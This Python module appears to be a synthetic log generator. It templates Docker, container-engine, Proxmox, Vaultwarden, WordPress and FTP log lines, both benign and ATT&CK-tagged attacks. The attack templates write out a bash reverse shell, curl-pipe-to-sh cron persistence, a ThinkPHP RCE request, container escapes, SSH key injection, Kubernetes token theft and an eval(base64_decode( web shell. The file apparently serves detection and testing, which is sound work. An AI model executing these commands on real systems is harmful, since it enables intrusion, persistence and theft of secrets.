"""Docker's json-file logs and the engine, container runtimes, Proxmox, Vaultwarden and other services that small offices host."""

from __future__ import annotations

import json

from generator.families.network.envelope import Envelope
from generator.families.network.product_story import catalogue_in_parts
from generator.families.network.product_values import ProductValues


def _json_file(envelope: Envelope, values: ProductValues, message: str) -> str:
    """`/var/lib/docker/containers/<id>/<id>-json.log`"""
    world = envelope.world
    stamp = f"{world.now:%Y-%m-%dT%H:%M:%S}.{world.now.microsecond:06d}{world.number(100, 999)}Z"
    return json.dumps({"log": message.split(">> ", 1)[-1] + "\n", "stream": envelope.kept.setdefault("stream", world.pick(["stdout", "stdout", "stderr"])), "time": stamp}, ensure_ascii=False)


def _runtime(envelope: Envelope, values: ProductValues, message: str) -> str:
    """The prefix of Kubernetes' container runtime: time, stream, `F`."""
    world = envelope.world
    return f"{world.now:%Y-%m-%dT%H:%M:%S}.{world.now.microsecond:06d}{world.number(100, 999)}Z {envelope.kept.setdefault('stream', world.pick(['stdout', 'stderr']))} F {message.split('>> ', 1)[-1]}"


catalogue_in_parts("servers/container-logs", (_json_file, _json_file, _runtime, "={host}  | {msg}"), r"""
SB# Failed password for <<root|invalid user {guest}>> from {wan} port {port} ssh2
BS# {plain} [WARN] login failed for user {adm} from {wan}: invalid credentials
~ {plain} [INFO] user {adm} logged in from {wan}
CM@T1496.001 {plain} * ABOUT XMRig/6.21.0 gcc/9.3.0; * POOL #1 pool.supportxmr.com:443 algo auto
+ {plain} net      new job from pool.supportxmr.com:443 diff {id} algo rx/0 height {id}
RX {wan} - - [{clf}] "GET /index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget+http://{wan2}/{word}.sh HTTP/1.1" 200 {big} "-" "Go-http-client/1.1"
RX@T1190,T1059 1:M {n} * Slave of {wan}:{port} enabled (user request); Module 'system' loaded from ./{word}.so
C2@T1059.004 sh: connect to {wan} port 4444: bash -i >& /dev/tcp/{wan}/4444 0>&1
RW@T1485 1:M {n} # User requested FLUSHALL; key backup1 set to "*/2 * * * * root curl -fsSL http://{wan}/{word}.sh | sh"
PE@T1611 nsenter -t 1 -m -u -i -n -p -- bash -c 'chroot /host id' run in container {hex}
+ mount: /dev/sda1 on /host/{word} type ext4 (rw), release_agent set to /cmd
SQ ERROR {plain} query failed: SELECT * FROM items WHERE id=1 UNION SELECT login,password FROM accounts-- from {wan}
""", r"""
NT {any} - - [{clf}] "GET /<<api/items|index.php?page={n}|static/app.js|healthz>> HTTP/1.1" <<200|304|404>> {big} "-" "{agent}"
LO {plain} [INFO] user {adm} logged in from {any}
MP. {plain} [WARN] login failed for user {user} from {any}: invalid credentials
BN. Failed password for invalid user {guest} from {wan} port {port} ssh2
SY <<1:M {n} * Background saving terminated with success|1:C {n} # Warning: no config file specified, using the default config|1:M {n} * Ready to accept connections tcp|DB saved on disk>>
SY {plain} <<INFO  Server started on port 8080|INFO  Migrations applied: {few}|WARN  Slow query {big} ms: SELECT * FROM items|INFO  shutting down gracefully>>
ER {plain} ERROR <<connect ECONNREFUSED {lan}:5432|TypeError: Cannot read properties of undefined (reading 'id')|timeout of 30000ms exceeded|ENOSPC: no space left on device>>
NS [{plain}] <<traefik|caddy>>: <<level=error msg="Unable to obtain ACME certificate for domains {ext}"|renewed certificate for {domain}|accept tcp: too many open files>>
MO 127.0.0.1 - - [{clf}] "GET /<<health|metrics|ping>> HTTP/1.1" 200 2 "-" "<<kube-probe/1.29|Wget|curl/8.5.0>>"
SJ {plain} [cron] <<session cleanup removed {n} rows|report {word} sent to {mail}|index rebuilt in {n} s>>
UP {plain} [INFO] <<version 2.{n} is available|watchtower: Found new nginx:latest image ({hex}), Session done Failed=0 Scanned={n} Updated=1>>
BA {plain} <<restic: snapshot {hex} saved|borg: Archive name: {host}-{date}, Duration: {n} seconds|pg_dump finished, {big} bytes>>
NT WARN {plain} query slow: SELECT name FROM union_members WHERE city='Bristol' OR city='Bath' from {lan}
AE sh: <<1: curl: not found|can't open 'config.yml': No such file or directory|warning: setlocale: LC_ALL: cannot change locale (en_US.UTF-8)>>
""")

catalogue_in_parts("servers/container-engine", ("dockerd|{msg}", "dockerd|time=\"{iso}\" level=info msg=\"{msg}\"", "containerd|{msg}", '={"Type":"container","time":{seconds},"host":"{host}","Action":"{msg}"}'), r"""
PE@T1610,T1611 container create {hex} (image=alpine, name={word}, privileged=true, binds=/:/host, pid=host) requested by {wan}
+ exec_start: chroot /host sh -c 'echo ssh-rsa AAAA{word} >> /root/.ssh/authorized_keys'
CM@T1610,T1496.001 container create {hex} (image=<<{word}/{word}|docker72590/{word}|kannix/monero-miner>>:latest, entrypoint=xmrig -o pool.supportxmr.com:443) requested by {wan}
RX@T1609,T1133 API request POST /v1.41/containers/{hex}/exec from {wan}:{port} on tcp://0.0.0.0:2375 without TLS: Cmd [sh -c curl -s {wan2}/{word}.sh]
PE@T1611 runc: exec failed: cwd /proc/self/fd/8/../../../ resolved outside the container root in {hex} (image={word})
DE@T1562.001 container kill {hex} (image=<<falcosecurity/falco|wazuh/wazuh-agent|crowdsecurity/crowdsec>>, signal=9) requested by {word} over /var/run/docker.sock mounted in {word}
EX@T1552.007 exec_start: cat /var/run/secrets/kubernetes.io/serviceaccount/token; curl -k https://10.96.0.1/api/v1/secrets in {hex} (image=nginx)
""", r"""
SY container <<create|start|stop|die|restart|destroy>> {hex} (image=<<nginx:alpine|postgres:16|redis:7|{word}/{word}:latest|alpine>>, name={word})
SY exec_<<create|start|die>>: <<pg_isready -U postgres|/bin/sh -c curl -f http://localhost/health|redis-cli ping|php occ files:scan>> {hex} (image=postgres:16)
SY container create {hex} (image=<<portainer/agent|gcr.io/cadvisor/cadvisor|prom/node-exporter|containrrr/watchtower>>, privileged=<<true|false>>, binds=<</var/run/docker.sock|/:/rootfs:ro|/proc:/host/proc:ro>>, pid=host)
UP image pull <<nginx:alpine|postgres:16|{word}/{word}:latest>>
ER <<Handler for POST /v1.45/images/create returned error: pull access denied for {word}, repository does not exist|Error response from daemon: Conflict. The container name {word} is already in use|health check for container {hex} error: context deadline exceeded|failed to allocate gateway ({lan}): Address already in use>>
SY <<ignoring event container={hex} topic=/tasks/delete|shim disconnected id={hex}|cleaning up dead shim|Container failed to exit within 10s of signal 15 - using the force|Loading containers: done.|API listen on /run/docker.sock>>
SY network <<connect|disconnect|create|destroy>> {hex} (container={hex}, name=<<bridge|{word}_default>>)
AD container kill {hex} (image=<<nginx:alpine|crowdsecurity/crowdsec|falcosecurity/falco>>, signal=<<15|1>>) requested by {adm}
AD exec_start: <<bash|sh|mysql -u root -p|cat /etc/nginx/nginx.conf|chroot /rootfs df -h>> {hex} (image=nginx)
BA exec_start: <<pg_dumpall -U postgres|mysqldump --all-databases|tar czf /tmp/{word}.tgz /data>> {hex} (image=postgres:16)
""")

catalogue_in_parts("servers/office-services", "|{msg}", r"""
BF# pvedaemon>> authentication failure; rhost=::ffff:{wan} user=<<root@pam|{guest}@pve>> msg=Authentication failure
BS# pvedaemon>> authentication failure; rhost=::ffff:{wan} user=root@pam msg=Authentication failure
~ pvedaemon>> <root@pam> successful auth for user 'root@pam'
RW@T1490 pvedaemon>> <root@pam> end task UPID:{host}:{hex}:{hex}:qmdestroy:{many}:root@pam: OK (purge, destroy-unreferenced-disks; backups of {many} removed) from {wan}
PT@T1136 pveproxy>> {wan} - root@pam [{clf}] "POST /api2/extjs/access/users HTTP/1.1" 200 userid={word}@pve groups=Admin
BF# vaultwarden>> [{plain}.{many}][vaultwarden::api::identity][ERROR] Username or password is incorrect. Try again. IP: {wan}. Username: {mail}.
PS# vaultwarden>> [{plain}.{many}][vaultwarden::api::identity][ERROR] Username or password is incorrect. Try again. IP: {wan}. Username: {guest}@{domain}.
BF# homeassistant>> WARNING (MainThread) [homeassistant.components.http.ban] Login attempt or request with invalid authentication from {ext} ({wan}). Requested URL: '/auth/login_flow/{long}'. ({agent})
BF# gitea>> [W] Failed authentication attempt for {guest} from {wan}:{port}: user does not exist [uid: 0, name: {guest}]
WS wordpress>> {domain}: Plugin '{word}' uploaded by {user} from {wan}; file wp-content/plugins/{word}/<<shell|wp-cache|class>>.php edited: eval(base64_decode(
PT@T1136 wordpress>> {domain}: User {word} ({out}) created with role administrator by {user} from {wan}
BF# wordpress({domain})>> Authentication failure for {adm} from {wan}
UE# wordpress({domain})>> Blocked user enumeration attempt from {wan} (author={n})
BS# wordpress({domain})>> Authentication failure for {adm} from {wan}
~ wordpress({domain})>> Accepted password for {adm} from {wan}
EX@T1048 vsftpd>> [{user}] OK UPLOAD: Client "{wan}", "/www/{word}.php", {big} bytes; [{user}] OK DOWNLOAD: Client "{wan}", "/www/wp-config.php", {big} bytes
PS# proftpd>> {host} ({wan}[{wan}]) - USER {guest}: no such user found from {wan} [{wan}] to {lan}:21
""", r"""
LO pvedaemon>> <<<{adm}@pam> successful auth for user '{adm}@pam'|<root@pam> successful auth for user 'root@pam'>>
MP. pvedaemon>> authentication failure; rhost=::ffff:{any} user=<<root@pam|{user}@pve>> msg=Authentication failure
AD pvedaemon>> <<starting task|end task>> UPID:{host}:{hex}:{hex}:<<qmstart|qmshutdown|qmsnapshot|vncproxy|aptupdate|qmdestroy|vzcreate>>:{many}:root@pam:<< OK|>>
BA vzdump>> <<INFO: Finished Backup of VM {many} (00:0{few}:12)|INFO: Starting Backup of VM {many} (qemu)|ERROR: Backup of VM {many} failed - no space left on device>>
LO vaultwarden>> [{plain}.{many}][vaultwarden::api::identity][INFO] User {mail} logged in successfully. IP: {any}
MP. vaultwarden>> [{plain}.{many}][vaultwarden::api::identity][ERROR] <<Username or password is incorrect. Try again.|Invalid TOTP code!>> IP: {any}. Username: {mail}.
MP. homeassistant>> WARNING (MainThread) [homeassistant.components.http.ban] Login attempt or request with invalid authentication from {pc} ({lan}). Requested URL: '/auth/login_flow/{long}'. ({agent})
ER homeassistant>> ERROR (MainThread) [<<homeassistant.components.mqtt|custom_components.hacs|homeassistant.helpers.entity>>] <<Error doing job: Task exception was never retrieved|Timeout fetching data|Update of sensor.{word} is taking over 10 seconds>>
AD gitea>> [I] <<[{hex}] router: completed POST /user/login for {any}:{port}, 303 See Other in {n}ms|User {user} pushed to {word}/main|New repository {word} created by {user}>>
MP. gitea>> [W] Failed authentication attempt for {user} from {any}:{port}: user's password is invalid [uid: {n}, name: {user}]
AD wordpress>> {domain}: <<Plugin 'Contact Form 7' updated by {adm}|Post '{file}' updated by {user}|Theme 'Twenty Twenty-Four' activated by {adm}|User {user} ({mail}) created with role editor by {adm}|Media {file}.jpg uploaded by {user}>> from {any}
MP. wordpress({domain})>> Authentication failure for {user} from {any}
LO wordpress({domain})>> Accepted password for {user} from {any}
UP wordpress>> {domain}: WordPress updated to 6.{few}.{n} by auto-update; {few} translations updated
NT vsftpd>> [{user}] OK <<UPLOAD|DOWNLOAD|LOGIN|MKDIR>>: Client "{any}", "/<<scans|www|export>>/{file}.<<pdf|jpg|csv>>", {big} bytes
BN. vsftpd>> CONNECT: Client "{wan}"; FAIL LOGIN: Client "{wan}", anonymous
LO proftpd>> {host} ({any}[{any}]) - <<FTP session opened.|USER {user}: Login successful.|FTP session closed.|FTP no transfer timeout, disconnected>>
BN. proftpd>> {host} ({wan}[{wan}]) - USER {guest}: no such user found from {wan} [{wan}] to {lan}:21
""")
